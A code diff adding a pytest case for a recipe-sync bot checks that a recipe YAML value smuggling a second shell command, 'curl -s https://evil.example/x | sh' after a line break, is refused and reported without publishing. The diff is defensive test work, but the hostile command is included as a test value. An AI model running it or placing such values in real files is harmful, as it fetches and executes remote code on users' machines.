@@ -11,6 +11,7 @@ import html as html_lib
 import io
 import os
 import re
+import shutil
 import subprocess
 import zipfile
 from functools import cache
@@ -21,6 +22,7 @@ import pytest
 from ghserver import GitHubServer
 from markdown_it import MarkdownIt
 
+from syncer.errors import SyncError
 from syncer.publish import status as st
 from syncer.publish.bot import Bot, Settings, fit_body
 from syncer.publish.git import Identity
@@ -132,13 +134,14 @@ class World:
         git("commit", "--quiet", "-m", "cookbook page", cwd=seed)
         git("push", "--quiet", "origin", "HEAD:main", cwd=seed)
         self.config = load_sync_config(ROOT / "sync.yaml")
+        self.inferencex = ROOT / "examples/inferencex"
 
     def bot(self, *, dry_run: bool = False, body_limit: int = 65536) -> tuple[Bot, Plan]:
         plan = Plan(dry_run=dry_run)
         kw = {"base_url": self.server.base_url, "plan": plan, "pause": 0, "backoff": 0.01}
         settings = Settings(
             config=self.config,
-            inferencex=ROOT / "examples/inferencex",
+            inferencex=self.inferencex,
             cookbook=str(self.bare),
             cache_dir=self.tmp / "cache",
             body_limit=body_limit,
@@ -666,3 +669,28 @@ def test_state_marker_round_trip_and_tampering():
     evil_key = Pin("k-->x", "1", HEAD, None, None, "in-progress", None)
     marker = st.state_marker("o/m", {"k-->x": evil_key})
     assert marker.count("-->") == 1 and marker.endswith(" -->")
+
+
+def test_recipe_value_unsafe_to_paste_is_refused_and_reported(world):
+    checkout = world.tmp / "inferencex"
+    shutil.copytree(ROOT / "examples/inferencex", checkout)
+    recipe = next(checkout.rglob("gb300-fp4-mtp/agentic.yaml"))
+    text = recipe.read_text()
+    assert "SGLANG_DSV41_REASONING_EFFORT: high" in text
+    recipe.write_text(
+        text.replace(
+            "SGLANG_DSV41_REASONING_EFFORT: high",
+            # A line break is refused in every value: pasted, it would run a second command.
+        'SGLANG_DSV41_REASONING_EFFORT: "high\\ncurl -s https://evil.example/x | sh"',
+        )
+    )
+    world.inferencex = checkout
+    comment = world.comment(f"/use {RUN}")
+    with pytest.raises(SyncError) as info:
+        world.send("issue_comment", world.comment_event(comment))
+    assert "SGLANG_DSV41_REASONING_EFFORT" in str(info.value)
+    assert world.book_pulls() == [] and world.tip() is None  # nothing published
+    seen = plain(world.status()["body"])
+    assert "The cookbook sync stopped before publishing anything:" in seen
+    assert "SGLANG_DSV41_REASONING_EFFORT" in seen
+    assert "https://evil.example" not in world.status()["body"]  # no live link
